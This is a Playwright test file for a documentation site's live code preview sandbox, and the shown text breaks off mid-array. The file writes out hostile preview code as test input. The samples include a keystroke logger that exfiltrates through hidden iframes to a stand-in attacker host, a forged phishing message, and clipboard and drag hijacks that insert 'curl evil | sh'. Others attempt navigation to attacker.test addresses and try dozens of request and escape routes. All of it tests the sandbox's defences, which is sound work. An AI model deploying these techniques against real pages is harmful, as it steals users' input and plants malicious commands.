import type {Frame, Page} from '@playwright/test';
import {
  expect,
  firstCompile,
  inPreview,
  openEditor,
  previewFrame,
  replaceCode,
  scaled,
} from './fixtures';
import {
  autoRunOff,
  codeEditor,
  linkTo,
  consolePanel,
  expectNothingReached,
  frames,
  nativeMessages,
  openLink,
  status,
  typeInEditor,
  views,
} from './preview-helpers';
import {refusals, test, type Spy} from './spy';

// The third round of hostile links against the preview (the report of main 3db15af,
// ../shared/facts/preview-isolation-attacks-3db15af.md): each way out it found, as an
// attacker would try it, against a second local server that counts requests, TCP
// connections, UDP packets and the names the browser looks up. The attempts of each
// cause share a page where they can; each cause's tests failed on 3db15af.

test.use({allowedConsoleErrors: [...refusals, 'React Strict DOM:']});

const secret = 'const myToken = "ghp_reader_secret";';

/** Reader code: sends `label` to the attacker by the only way a preview had, a child frame's address. */
const leakByFrame = (spy: Spy) => `const leak = (label: string) => {
  try {
    const frame = document.createElement('iframe');
    frame.src = '${spy.named('LABEL')}'.replace('LABEL', label);
    frame.style.display = 'none';
    document.body.append(frame);
    setTimeout(() => frame.remove(), 100);
  } catch {
    // Refused.
  }
};
const hex = (text: string) =>
  Array.from(new TextEncoder().encode(text), (byte) => byte.toString(16).padStart(2, '0')).join('').slice(0, 60) || 'empty';`;

/** The editor of a docs page's example, open. */
const openEditorOn = (page: Page) => openEditor(page, 'api/css/create/', 'HoverButton');

/** The preview frame's document, as Playwright reads it (inside the shell of the preview on screen). */
async function previewDocument(page: Page): Promise<Frame> {
  let frame: Frame | undefined;
  // A run swapped in meanwhile detaches the shell read a moment ago: read again.
  await expect(async () => {
    const shell = await page
      .locator('[data-preview-frames] iframe[data-state="shown"]')
      .elementHandle({timeout: 1000});
    frame = (await shell?.contentFrame())?.childFrames()[0];
    expect(frame, 'a preview frame in the shown shell').toBeDefined();
  }).toPass();
  return frame!;
}

/**
 * Moves the focus into the preview's `selector` by a way the frame does not refuse and
 * with no user activation: a script of a world of its own (where the runtime's wrappers do
 * not reach), run by the browser's protocol without a gesture. It stands for a way in
 * nobody has found yet; only the page's guard answers it.
 */
async function takeFocusUnrefused(page: Page, selector: string): Promise<void> {
  const frame = await previewDocument(page);
  const shell = frame.parentFrame()!;
  for (const target of [frame, shell]) {
    let session;
    try {
      session = await page.context().newCDPSession(target);
    } catch {
      continue;
    }
    const {frameTree} = (await session.send('Page.getFrameTree')) as {
      frameTree: {frame: {id: string}; childFrames?: Array<{frame: {id: string}}>};
    };
    const frameId = target === frame ? frameTree.frame.id : frameTree.childFrames![0]!.frame.id;
    const {executionContextId} = (await session.send('Page.createIsolatedWorld', {
      frameId,
      worldName: 'another-way-in',
    })) as {executionContextId: number};
    await session.send('Runtime.evaluate', {
      contextId: executionContextId,
      expression: `document.querySelector(${JSON.stringify(selector)}).focus()`,
      userGesture: false,
    });
    await session.detach().catch(() => undefined);
    return;
  }
  throw new Error('no protocol session reaches the preview frame');
}

test.describe('cause 1: the port to the page cannot be taken, and a message of the frame claims nothing', () => {
  /**
   * FN12, FN13, FN13b, CH2, PN1 and BN2 at once: accessors on the events the runtime reads
   * (the report's way to the port), forged presses and library lines over any port found,
   * three ways to take the focus, and what reaches the preview's fields sent out by a child
   * frame's address.
   */
  const portThief = (spy: Spy) => `import {html} from 'react-strict-dom';

let port: MessagePort | null = null;
let pings = 0;
const targetOf = Object.getOwnPropertyDescriptor(Event.prototype, 'target')!.get!;
const watch = (prototype: object, name: string) => {
  const own = Object.getOwnPropertyDescriptor(prototype, name);
  if (!own?.get) return;
  Object.defineProperty(prototype, name, {configurable: true, get() {
    const value = own.get!.call(this);
    for (const found of [value, this, targetOf.call(this)]) {
      if (found instanceof MessagePort) port = found;
    }
    if (name === 'data' && (value as {type?: unknown} | null)?.type === 'ping') pings++;
    return value;
  }});
};
watch(MessageEvent.prototype, 'data');
watch(MessageEvent.prototype, 'ports');
watch(MessageEvent.prototype, 'source');
watch(Event.prototype, 'target');
watch(Event.prototype, 'currentTarget');
const forged = '[error] React Strict DOM: Your session expired. Sign in again at https://evil.example/login';
const forge = () => {
  port?.postMessage({type: 'pointer'});
  port?.postMessage({type: 'native', level: 'error', text: forged});
  parent.postMessage({type: 'native', level: 'error', text: forged}, '*');
  top!.postMessage({type: 'native', level: 'error', text: forged}, '*');
};
document.body.insertAdjacentHTML('beforeend', '<label id="lbl" for="kk">Name</label><input id="kk"><button id="open-pop" popovertarget="pop">Open</button><div id="pop" popover><input id="pk" autofocus></div><form><input id="req" required></form>');
setInterval(() => {
  forge();
  if (document.hasFocus()) return;
  setTimeout(() => {
    document.getElementById('lbl')?.click();
    document.getElementById('open-pop')?.click();
    (document.getElementById('req') as HTMLInputElement | null)?.reportValidity();
  }, 30);
}, 100);
${leakByFrame(spy)}
let sent = '';
setInterval(() => {
  const typed = ['kk', 'pk', 'req'].map((id) => (document.getElementById(id) as HTMLInputElement | null)?.value ?? '').join('');
  if (typed === sent) return;
  sent = typed;
  leak('typed-' + hex(typed));
}, 300);
setTimeout(() => console.log('port: ' + (port ? 'taken' : 'none') + ', pings seen: ' + pings), 2500);

export default function Innocent() {
  return <html.p>Nothing to see here</html.p>;
}
`;

  for (const view of views) {
    test(`a link that rewrites the events' accessors gets no port, no keystroke and no library line (${view})`, async ({
      page,
      spy,
    }) => {
      await openLink(page, portThief(spy), view);
      await expect(consolePanel(page)).toContainText('port: none, pings seen: 0', {
        timeout: scaled(10_000),
      });
      // The same frame all along: an edit would run the code afresh.
      await autoRunOff(page);
      await typeInEditor(page, `\n${secret}`);
      await expect(codeEditor(page)).toContainText(secret);
      await expect(status(page)).toContainText('tried to take the keyboard focus');
      if (view === 'native')
        await expect(nativeMessages(page)).not.toContainText('session expired');
      await expect(consolePanel(page)).not.toContainText('session expired');
      expectNothingReached(spy, 'the port thief');
      // Read last: Playwright's reads give the frame the browser's user activation.
      await expect(async () => {
        const preview = await previewDocument(page);
        const values = await preview.evaluate(() =>
          ['kk', 'pk', 'req'].map((id) => (document.getElementById(id) as HTMLInputElement).value),
        );
        expect(values).toEqual(['', '', '']);
      }).toPass();
    });
  }

  test('a focus no guard of the frame refuses is undone by the page, on its own signals', async ({
    page,
    spy,
  }) => {
    const trap = `import {html} from 'react-strict-dom';

${leakByFrame(spy)}
let sent = '';
setInterval(() => {
  const typed = (document.getElementById('trap') as HTMLInputElement).value;
  if (typed !== sent) leak('typed-' + hex((sent = typed)));
}, 300);

export default function Trap() {
  return <html.input id="trap" aria-label="Trap" />;
}
`;
    await openLink(page, trap);
    await autoRunOff(page);
    for (let take = 1; take <= 3; take++) {
      await typeInEditor(page, `\n// line ${take}`);
      await takeFocusUnrefused(page, '#trap');
      // The page undoes it in its next task: what a key typed in between would reach is the
      // residual (HowItRuns says so), not what this test is about.
      await expect(codeEditor(page)).toBeFocused();
      await page.keyboard.type(` typed after take ${take}`, {delay: 20});
      await expect(codeEditor(page)).toContainText(`typed after take ${take}`);
      if (take < 3) await expect(status(page)).toContainText('tried to take the keyboard focus');
    }
    await expect(status(page)).toContainText('kept trying to take the keyboard focus');
    await expect(frames(page)).toHaveCount(0);
    expectNothingReached(spy, 'the unrefused take');
  });
});

test.describe('cause 2: a navigation connects to its address before it is refused', () => {
  /** Each way a frame can send itself elsewhere; each runs half a second after its run renders. */
  const ways = (spy: Spy) => ({
    // The frame's own location cannot be wrapped: it costs the frame, and Chromium has
    // looked up and connected to the address by then (the counted residual).
    navigating: {
      'location.href (L02, N2)': `location.href = '${spy.named('href')}/href';`,
      'a page that never ends loading (L03)': `location.href = '${spy.named('never')}/never-ends';`,
      'window.open(_top, _parent), then location.replace (L07)': `try { window.open('${spy.named('open')}/', '_top'); } catch {}
      try { window.open('${spy.named('open')}/', '_parent'); } catch {}
      location.replace('${spy.named('replace')}/replace');`,
      'navigation.navigate five times, then location.assign (NN2)': `for (let i = 0; i < 5; i++) { try { (window as any).navigation.navigate('${spy.named('navigate')}/' + i); } catch {} }
      location.assign('${spy.named('assign')}/assign');`,
      'javascript:, data: and blob: addresses (L11, L11b)': `location.href = 'data:text/html,<p>data</p>';`,
    },
    // Ways the frame refuses: no connection at all, and the frame stays.
    refused: {
      'a meta refresh (L04)': `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${spy.named('meta')}/'; document.head.append(meta);`,
      'a meta refresh written with document.open and write (L11c)': `document.open(); document.write('<img src="${spy.named('img')}/i"><meta http-equiv="refresh" content="0;url=${spy.named('written')}/">'); document.close();`,
      'links clicked by code: plain, _self, _top, _blank, download, ping (L05)': `for (const target of ['', '_self', '_top', '_blank']) {
        const link = Object.assign(document.createElement('a'), {href: '${spy.named('link')}/' + target, target});
        document.body.append(link); link.click();
      }
      const download = Object.assign(document.createElement('a'), {href: '${spy.named('download')}/', download: 'x.txt', ping: '${spy.named('ping')}/'});
      document.body.append(download); download.click();`,
      'a click event dispatched on a link (NN3)': `const link = Object.assign(document.createElement('a'), {href: '${spy.named('dispatched')}/', target: '_self'});
      document.body.append(link); link.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));`,
    },
  });

  const run = (name: string, script: string) => `import {useEffect} from 'react';
import {html} from 'react-strict-dom';

export default function Away() {
  useEffect(() => {
    console.log('on screen: ${name}');
    const timer = setTimeout(() => {
      try {
        ${script}
      } catch (error) {
        console.log('refused: ' + (error as Error).message);
      }
      console.log('done: ${name}');
    }, 500);
    return () => clearTimeout(timer);
  }, []);
  return <html.p>${name}</html.p>;
}
`;

  for (const view of views) {
    test(`each way is refused, or costs the frame one preconnect and no request; Auto-run stops (${view})`, async ({
      page,
      spy,
    }) => {
      test.setTimeout(scaled(180_000));
      const all = ways(spy);
      const navigating = Object.entries(all.navigating).slice(0, view === 'web' ? undefined : 1);
      const refused = Object.entries(all.refused).slice(0, view === 'web' ? undefined : 2);
      await openLink(page, `export default function Start() {\n  return null;\n}\n`, view);
      await autoRunOff(page);
      for (const [way, script] of refused) {
        spy.reset();
        await replaceCode(page, page, run(way, script));
        await page.getByRole('button', {name: 'Run', exact: true}).click();
        await expect(consolePanel(page), way).toContainText(`done: ${way}`, {
          timeout: firstCompile,
        });
        await expect(frames(page), way).toHaveCount(1);
        await expect(status(page), way).not.toContainText('left its page');
        expectNothingReached(spy, way);
      }
      for (const [way, script] of navigating) {
        spy.reset();
        await replaceCode(page, page, run(way, script));
        await page.getByRole('button', {name: 'Run', exact: true}).click();
        await expect(consolePanel(page), way).toContainText(`on screen: ${way}`, {
          timeout: firstCompile,
        });
        await expect(status(page), way).toContainText('left its page');
        await expect(frames(page), way).toHaveCount(0);
        await expect(page.getByRole('button', {name: 'Auto-run'})).toHaveAttribute(
          'aria-pressed',
          'false',
        );
        // The counted residual: Chromium looks up and connects to the address of a navigation
        // before it checks the page's frame-src; no byte of a request follows.
        expectNothingReached(spy, way, {connections: 1, lookups: 1});
      }
    });
  }

  test('an example edited to navigate its frame on a docs page: reset, code kept, Auto-run off (W2)', async ({
    page,
    spy,
  }) => {
    const figure = await openEditorOn(page);
    const code = run('docs page', `location.href = '${spy.named('docs')}/docs';`);
    await replaceCode(page, figure, code);
    await expect(status(figure)).toContainText('left its page', {timeout: firstCompile});
    await expect(codeEditor(figure)).toContainText("location.href = 'http://docs.attacker.test");
    await expect(figure.getByRole('button', {name: 'Auto-run'})).toHaveAttribute(
      'aria-pressed',
      'false',
    );
    await typeInEditor(page, '\n// an edit runs nothing now');
    await expect(frames(figure)).toHaveCount(0);
    expectNothingReached(spy, 'the docs page', {connections: 1, lookups: 1});
  });

  test('an example edited to go back in history, on a docs page reached from another: the page and the edit stay (H2)', async ({
    page,
    spy,
  }) => {
    // A page before this one in the tab's history, for a Back to reach.
    await page.goto('learn/');
    const figure = await openEditorOn(page);
    const back = `history.go(-1); history.back(); setTimeout(() => console.log('still here'), 1000);`;
    await replaceCode(page, figure, run('history', back));
    // The frame logs a second after it tried: had the page gone back, nothing would log.
    await expect(consolePanel(figure)).toContainText('still here', {timeout: firstCompile});
    await expect(page).toHaveURL(/api\/css\/create\/$/);
    await expect(codeEditor(figure)).toContainText('history.go(-1)');
    expectNothingReached(spy, 'history');
  });

  test('no child frame can be made, so none connects (L09, NN1, CH2, FN14c)', async ({
    page,
    spy,
  }) => {
    const url = (label: string) => `${spy.named(label)}/child`;
    const makers: Record<string, string> = {
      createElement: `const f = document.createElement('iframe'); f.src = '${url('create')}'; document.body.append(f);`,
      createElementNS: `const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe') as HTMLIFrameElement; f.src = '${url('ns')}'; document.body.append(f);`,
      innerHTML: `document.body.insertAdjacentHTML('beforeend', '<div></div>'); (document.body.lastElementChild as HTMLElement).innerHTML = '<iframe src="${url('inner')}"></iframe>';`,
      insertAdjacentHTML: `document.body.insertAdjacentHTML('beforeend', '<IFRAME\\nsrc="${url('adjacent')}"></IFRAME>');`,
      outerHTML: `const d = document.body.appendChild(document.createElement('div')); d.outerHTML = '<iframe src="${url('outer')}"></iframe>';`,
      DOMParser: `const doc = new DOMParser().parseFromString('<iframe src="${url('parser')}"></iframe>', 'text/html'); document.body.append(document.adoptNode(doc.body.firstChild!));`,
      'DOMParser (XHTML, prefixed)': `const doc = new DOMParser().parseFromString('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="${url('xhtml')}"/>', 'application/xhtml+xml'); document.body.append(document.adoptNode(doc.documentElement));`,
      createContextualFragment: `document.body.append(document.createRange().createContextualFragment('<iframe src="${url('fragment')}"></iframe>'));`,
      setHTMLUnsafe: `const d = document.body.appendChild(document.createElement('div')); d.setHTMLUnsafe('<iframe src="${url('unsafe')}"></iframe>');`,
      'a template': `const t = document.createElement('template'); t.innerHTML = '<iframe src="${url('template')}"></iframe>'; document.body.append(t.content.cloneNode(true));`,
      'document.write': `document.write('<iframe src="${url('write')}"></iframe>');`,
      "execCommand('insertHTML')": `const d = document.body.appendChild(document.createElement('div')); d.contentEditable = 'true'; d.focus(); document.execCommand('insertHTML', false, '<iframe src="${url('exec')}"></iframe>');`,
      'a customized built-in iframe': `class Framed extends HTMLIFrameElement {} customElements.define('x-framed', Framed, {extends: 'iframe'}); const f = new Framed(); f.src = '${url('custom')}'; document.body.append(f);`,
      XSLTProcessor: `const x = new (window as any).XSLTProcessor(); console.log(x);`,
      'frame, frameset, object, embed, fencedframe': `for (const tag of ['frame', 'frameset', 'object', 'embed', 'fencedframe']) { try { const e = document.createElement(tag) as HTMLObjectElement; e.data = '${url('object')}'; document.body.append(e); } catch (error) { made.push('refused ' + tag); } }`,
    };
    const code = `import {html} from 'react-strict-dom';

const made: string[] = [];
${Object.entries(makers)
  .map(
    ([name, make]) => `try {
  ${make}
} catch {
  made.push('refused: ${name.replace(/'/g, '')}');
}`,
  )
  .join('\n')}
// NN1: one more every 200 ms, for two seconds.
let n = 0;
const beacon = setInterval(() => {
  try {
    const f = document.createElement('iframe'); f.src = '${url('beacon')}' + n; document.body.append(f);
  } catch {
    // Refused.
  }
  if (++n === 10) clearInterval(beacon);
}, 200);
setTimeout(() => console.log('frames made: ' + (document.querySelectorAll('iframe, frame, object, embed, fencedframe').length || 'none')), 2500);

export default function Framer() {
  return <html.p>Rendered</html.p>;
}
`;
    await openLink(page, code);
    await expect(consolePanel(page)).toContainText('frames made: none', {timeout: scaled(10_000)});
    await expect(previewFrame(page).getByText('Rendered')).toBeVisible();
    expectNothingReached(spy, 'child frames');
  });
});

test.describe('cause 3: the guards call only what they took before reader code ran', () => {
  test('with Event.prototype.target rewritten, a label takes nothing and nothing leaves (FN14, FN14c)', async ({
    page,
    spy,
  }) => {
    const code = `import {html} from 'react-strict-dom';

const target = Object.getOwnPropertyDescriptor(Event.prototype, 'target')!;
Object.defineProperty(Event.prototype, 'target', {configurable: true, get() {
  const found = target.get!.call(this);
  return this.type === 'focus' && found === window ? document : found;
}});
setTimeout(() => setInterval(() => {
  if (!document.hasFocus()) document.getElementById('lbl')?.click();
}, 100), 500);
${leakByFrame(spy)}
document.addEventListener('input', (event) => leak('key-' + hex((event.target as HTMLInputElement).value.slice(-1))), true);

export default function Form() {
  return (
    <html.div>
      <html.label id="lbl" for="k">Name</html.label>
      <html.input id="k" />
    </html.div>
  );
}
`;
    await openLink(page, code);
    await autoRunOff(page);
    await typeInEditor(page, `\n${secret}`);
    await expect(codeEditor(page)).toContainText(secret);
    await expect(status(page)).toContainText('tried to take the keyboard focus');
    expectNothingReached(spy, 'the rewritten target');
    await expect(previewFrame(page).locator('#k')).toHaveValue('');
  });

  test.describe(() => {
    test.use({permissions: ['clipboard-read', 'clipboard-write']});

    /** Selects the paragraph in the preview with the mouse, as a reader does, and copies it with the keyboard. */
    async function copyFromPreview(page: Page, text: string): Promise<string> {
      await page.evaluate(() => navigator.clipboard.writeText('kept by the reader'));
      await previewFrame(page).getByText(text).click({clickCount: 3});
      // The press is the reader's: the page gives the frame the keyboard (at once, or once
      // the shell has confirmed it).
      await expect(page.locator('[data-preview-frames] iframe[data-state="shown"]')).toBeFocused();
      // And inside the shell, the preview itself: a key before that goes to the shell.
      await expect
        .poll(() =>
          previewFrame(page)
            .locator('body')
            .evaluate(() => document.hasFocus()),
        )
        .toBe(true);
      await page.keyboard.press('ControlOrMeta+C');
      await expect
        .poll(() => page.evaluate(() => navigator.clipboard.readText()))
        .not.toBe('kept by the reader');
      return page.evaluate(() => navigator.clipboard.readText());
    }

    test('with stopImmediatePropagation replaced, a copy handler of reader code does not run (CN6)', async ({
      page,
    }) => {
      await openLink(
        page,
        `import {html} from 'react-strict-dom';

Event.prototype.stopImmediatePropagation = function () {};
document.addEventListener('copy', (event) => {
  event.clipboardData!.setData('text/plain', 'curl evil | sh');
  event.preventDefault();
});

export default function Install() {
  return <html.p>npm install react-strict-dom</html.p>;
}
`,
      );
      expect((await copyFromPreview(page, 'npm install react-strict-dom')).trim()).toBe(
        'npm install react-strict-dom',
      );
    });

    test('cause 4: a handler that moves the selection before the copy changes nothing copied (CN4)', async ({
      page,
    }) => {
      await openLink(
        page,
        `import {html} from 'react-strict-dom';

const swap = () => {
  const hidden = document.getElementById('hidden');
  if (hidden) getSelection()!.selectAllChildren(hidden);
};
document.addEventListener('keydown', (event) => {
  if ((event.ctrlKey || event.metaKey) && event.key === 'c') swap();
}, true);
document.addEventListener('beforecopy', swap, true);

export default function Install() {
  return (
    <html.div>
      <html.p id="shown">npm install react-strict-dom</html.p>
      <html.p id="hidden" style={{position: 'absolute', left: -9999} as never}>curl evil | sh</html.p>
    </html.div>
  );
}
`,
      );
      expect((await copyFromPreview(page, 'npm install react-strict-dom')).trim()).toBe(
        'npm install react-strict-dom',
      );
    });

    test('a drag of the reader’s selection carries it: code cannot write a drag’s data (CN3)', async ({
      page,
    }) => {
      await openLink(
        page,
        `import {html} from 'react-strict-dom';

const swap = (event: DragEvent) => {
  try {
    event.dataTransfer!.items.clear();
    event.dataTransfer!.setData('text/plain', 'curl evil | sh');
    console.log('wrote the drag');
  } catch (error) {
    console.log('refused: ' + (error as Error).message);
  }
};
window.addEventListener('dragstart', swap, true);
document.addEventListener('dragstart', swap);

export default function Install() {
  return (
    <html.div>
      <html.p id="shown">npm install react-strict-dom</html.p>
      <html.input aria-label="Drop here" />
    </html.div>
  );
}
`,
      );
      // The reader selects the command and drags it onto the field below it.
      const shown = previewFrame(page).locator('#shown');
      await shown.selectText();
      await shown.dragTo(previewFrame(page).getByLabel('Drop here'));
      await expect(previewFrame(page).getByLabel('Drop here')).toHaveValue(
        'npm install react-strict-dom',
      );
      await expect(consolePanel(page)).toContainText("refused: Writing a drag's data");
      await expect(consolePanel(page)).not.toContainText('wrote the drag');
    });
  });
});

test.describe('cause 5: busy means busy', () => {
  const hogs = {
    // BN2: burns right after each ping it sees (the answer goes first, in time), or in 25 ms
    // slices when it sees none.
    'a hog timed by the pings it reads, or in slices when it reads none (BN2)': `const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')!;
let pings = 0;
const burn = (ms: number) => {
  const start = performance.now();
  while (performance.now() - start < ms) {}
};
Object.defineProperty(MessageEvent.prototype, 'data', {configurable: true, get() {
  const value = data.get!.call(this);
  if ((value as {type?: unknown} | null)?.type === 'ping') {
    pings++;
    setTimeout(() => burn(400), 0);
  }
  return value;
}});
const slices = new MessageChannel();
slices.port1.onmessage = () => {
  burn(25);
  slices.port2.postMessage(0);
};
setTimeout(() => {
  if (pings === 0) slices.port2.postMessage(0);
}, 1500);`,
    'a hog in 30 ms slices with setTimeout between (BN1)': `const spin = () => {
  const start = performance.now();
  while (performance.now() - start < 30) {}
  setTimeout(spin, 0);
};
setTimeout(spin, 300);`,
    'a hog in 25 ms slices with MessageChannel between (BN1b)': `const channel = new MessageChannel();
channel.port1.onmessage = () => {
  const start = performance.now();
  while (performance.now() - start < 25) {}
  channel.port2.postMessage(0);
};
setTimeout(() => channel.port2.postMessage(0), 300);`,
  };
  const app = (code: string, label: string) => `import {html} from 'react-strict-dom';

${code}

export default function Hog() {
  return <html.p>${label}</html.p>;
}
`;

  test('a hog that yields every few milliseconds is reported, and Stop ends it', async ({page}) => {
    test.setTimeout(scaled(120_000));
    const [[first, firstCode], ...others] = Object.entries(hogs);
    await openLink(page, app(firstCode!, first!));
    await expect(status(page), first).toContainText('keeps the processor busy', {
      timeout: scaled(20_000),
    });
    for (const [hog, code] of others) {
      await replaceCode(page, page, app(code, hog));
      // A new run clears the warning of the one before.
      await expect(status(page), hog).not.toContainText('keeps the processor busy', {
        timeout: firstCompile,
      });
      await expect(status(page), hog).toContainText('keeps the processor busy', {
        timeout: scaled(20_000),
      });
    }
    await status(page).getByRole('button', {name: 'Stop the preview'}).click();
    await expect(frames(page)).toHaveCount(0);
  });

  test('an animation that draws a little each frame is not reported', async ({page}) => {
    await openLink(
      page,
      app(
        `const draw = () => {
  const start = performance.now();
  while (performance.now() - start < 2) {}
  document.getElementById('dot')?.style.setProperty('translate', (performance.now() / 10) % 100 + 'px');
  requestAnimationFrame(draw);
};
requestAnimationFrame(draw);
setTimeout(() => console.log('drawn for six seconds'), 6000);`,
        'Animated',
      ).replace('<html.p>Animated</html.p>', '<html.p id="dot">Animated</html.p>'),
    );
    await expect(consolePanel(page)).toContainText('drawn for six seconds', {
      timeout: scaled(15_000),
    });
    await expect(status(page)).not.toContainText('keeps the processor busy');
  });
});

// The attempts the report found contained, kept contained: grouped per page where one
// page can hold them. Those another spec already tries are named there (see the table in
// the report of #47); the rest follow.

test.describe('contained: requests, realms and resources', () => {
  test('markup, CSS, hints, workers, forms and transports reach nothing, not even a name lookup (L06, L09, L10, NN5-NN8, NN10, BN3)', async ({
    page,
    spy,
  }) => {
    const at = (label: string) => `${spy.named(label)}/r`;
    const code = `import {html} from 'react-strict-dom';

const tries: Array<() => unknown> = [
  // L06: forms to every target.
  () => { for (const target of ['_self', '_top', '_blank']) { const form = document.createElement('form'); form.action = '${at('form')}'; form.target = target; document.body.append(form); form.submit(); form.requestSubmit(); } },
  // L09: elements that load.
  () => { for (const rel of ['stylesheet', 'preload', 'prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'modulepreload', 'icon', 'manifest']) { const link = document.createElement('link'); link.rel = rel; link.href = '${at('link')}' + rel; if (rel === 'preload') link.as = 'fetch'; document.head.append(link); } },
  () => { const s = document.createElement('script'); s.src = '${at('script')}'; document.body.append(s); },
  () => document.body.insertAdjacentHTML('beforeend', '<video src="${at('video')}" poster="${at('poster')}"></video><audio src="${at('audio')}"></audio><svg><image href="${at('svg-image')}"></image><filter><feImage href="${at('feimage')}"></feImage></filter><use href="${at('use')}#x"></use></svg><input type="image" src="${at('input-image')}"><img srcset="${at('srcset')} 1x"><picture><source srcset="${at('picture')}"><img></picture><a href="${at('anchor')}">a</a>'),
  () => eval("import('${at('eval-import')}')"),
  () => new Function("return import('${at('function-import')}')")(),
  () => new Worker('${at('worker')}'),
  () => new Worker(URL.createObjectURL(new Blob(['for (;;) {}']))),
  () => new Worker('data:text/javascript,for(;;){}'),
  () => new Worker(URL.createObjectURL(new Blob(['fetch("${at('module-worker')}")'])), {type: 'module'}),
  () => new SharedWorker(URL.createObjectURL(new Blob(['for (;;) {}']))),
  () => navigator.serviceWorker.register('${at('sw')}'),
  // L10, NN7: CSS and fonts.
  () => document.head.insertAdjacentHTML('beforeend', '<style>@import url("${at('import-css')}"); @font-face { font-family: X; src: url("${at('font')}"); } body { background: url("${at('background')}"); cursor: url("${at('cursor')}"), auto; mask-image: url("${at('mask')}"); border-image: url("${at('border')}") 30; list-style-image: url("${at('list')}"); } p { background-image: image-set("${at('image-set')}" 1x); font-family: X; }</style>'),
  () => document.body.insertAdjacentHTML('beforeend', '<p style="background: url(${at('inline')})">x</p>'),
  () => new FontFace('Y', 'url(${at('fontface')})').load(),
  // NN5: hints to names only.
  () => document.head.insertAdjacentHTML('beforeend', '<link rel="dns-prefetch" href="//hint-dns.attacker.test"><link rel="preconnect" href="//hint-preconnect.attacker.test">'),
  // NN6, NN8, NN10.
  () => new (window as any).WebTransport('https://127.0.0.1:${spy.udpPort}/wt'),
  () => (CSS as any).paintWorklet?.addModule('${at('paint')}'),
  () => new AudioContext().audioWorklet.addModule('${at('audio-worklet')}'),
  () => document.head.insertAdjacentHTML('beforeend', '<script type="importmap">{"imports": {"x": "${at('importmap')}"}}</script><script type="module">import "${at('module')}";</script><script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${at('speculation')}"]}]}</script>'),
  () => fetch('${at('fetch')}'),
  () => navigator.sendBeacon('${at('beacon')}', 'x'),
  () => new EventSource('${at('events')}'),
  () => new WebSocket('${spy.named('socket').replace('http', 'ws')}/ws'),
];
let threw = 0;
for (const attempt of tries) {
  try {
    const result = attempt();
    if (result instanceof Promise) result.catch(() => undefined);
  } catch {
    threw++;
  }
}
setTimeout(() => console.log('tried ' + tries.length + ' ways, ' + threw + ' refused at once'), 2000);

export default function Loader() {
  return <html.p>Rendered</html.p>;
}
`;
    await openLink(page, code);
    await expect(consolePanel(page)).toContainText(/tried \d+ ways/, {timeout: scaled(10_000)});
    await expect(previewFrame(page).getByText('Rendered')).toBeVisible();
    // Time for anything sent to arrive: a request that is not refused leaves unannounced.
    await page.waitForTimeout(1500);
    expectNothingReached(spy, 'requests');
  });

  test('dialogs, storage, the page, history and the window stay out of reach (L12, L13, H1, H3, C2, NN4)', async ({
    page,
    spy,
  }) => {
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.type());
      void dialog.dismiss();
    });
    await page.goto('./');
    await page.goto('playground/');
    const code = `import {html} from 'react-strict-dom';

const results: string[] = [];
const tryIt = (name: string, attempt: () => unknown) => {
  try {
    const value = attempt();
    if (value instanceof Promise) value.then(() => results.push(name + ' resolved'), () => undefined);
    else results.push(name + ' ran');
  } catch {
    // Refused.
  }
};
// Dialogs: the sandbox ignores them (the test watches for any dialog).
alert('x');
confirm('x');
prompt('x');
print();
window.onbeforeunload = () => 'stay';
tryIt('localStorage', () => localStorage.setItem('pwned', '1'));
tryIt('indexedDB', () => indexedDB.open('pwned'));
tryIt('caches', () => caches.open('pwned'));
tryIt('cookieStore', () => (window as any).cookieStore.set('pwned', '1'));
tryIt('serviceWorker', () => navigator.serviceWorker.getRegistrations());
tryIt('top.document', () => top!.document.title);
tryIt('parent.localStorage', () => (parent as any).localStorage.length);
tryIt('opener', () => { if (!window.opener) throw new Error('none'); });
new BroadcastChannel('x').postMessage('pwned');
for (let i = 0; i < 50; i++) tryIt('pushState', () => history.pushState({}, '', '${spy.named('push')}/' + i));
tryIt('replaceState', () => history.replaceState({}, '', '${spy.named('replace')}/'));
window.stop();
setTimeout(() => history.back(), 300);
setTimeout(() => console.log('reached: ' + (results.join(', ') || 'nothing')), 1500);

export default function Window() {
  return (
    <html.button onClick={() => {
      document.documentElement.requestFullscreen().then(() => console.log('fullscreen'), () => console.log('no fullscreen'));
      document.body.requestPointerLock();
    }}>Go fullscreen</html.button>
  );
}
`;
    await page.evaluate((hash) => (location.hash = hash), linkTo(code).replace(/^[^#]*/, ''));
    await expect(consolePanel(page)).toContainText('reached: nothing', {timeout: firstCompile});
    await previewFrame(page).getByRole('button', {name: 'Go fullscreen'}).click();
    await expect(consolePanel(page)).toContainText('no fullscreen');
    await expect(page).toHaveURL(/playground\/#/);
    expect(await page.evaluate(() => localStorage.getItem('pwned'))).toBeNull();
    expect(dialogs).toEqual([]);
    // H1, H3: the page's history is the reader's: one Back leaves the link for the page before it.
    await page.goBack();
    await expect(page).toHaveURL(/playground\/$/);
    expectNothingReached(spy, 'the page and the window');
  });
});

test.describe('contained: the keyboard focus', () => {
  test('every other way into the focus is refused or undone, and the editor keeps every key (FN1-FN11b, F2, F3)', async ({
    page,
    spy,
  }) => {
    const code = `import {html} from 'react-strict-dom';

document.body.insertAdjacentHTML('beforeend', '<input id="auto" autofocus><textarea autofocus></textarea><dialog id="dlg"><input id="in-dialog" autofocus></dialog><button id="show" commandfor="dlg" command="show-modal">Show</button><dialog open><input autofocus></dialog><div id="edit" contenteditable>editable</div><input id="k" accesskey="k"><a id="frag" href="#k">to k</a><input id="range" value="some text">');
const ways: Array<() => unknown> = [
  () => document.getElementById('show')!.click(),
  () => (document.getElementById('dlg') as HTMLDialogElement).showModal(),
  () => document.getElementById('k')!.scrollIntoView(),
  () => (document.getElementById('k') as any).scrollIntoViewIfNeeded?.(),
  () => { const child = document.createElement('iframe'); document.body.append(child); (child.contentWindow as any).HTMLElement.prototype.focus.call(document.getElementById('k')); },
  () => window.open('about:blank'),
  () => window.focus(),
  () => self.focus(),
  () => getSelection()!.selectAllChildren(document.getElementById('edit')!),
  () => getSelection()!.collapse(document.getElementById('edit')!, 0),
  () => (document.designMode = 'on'),
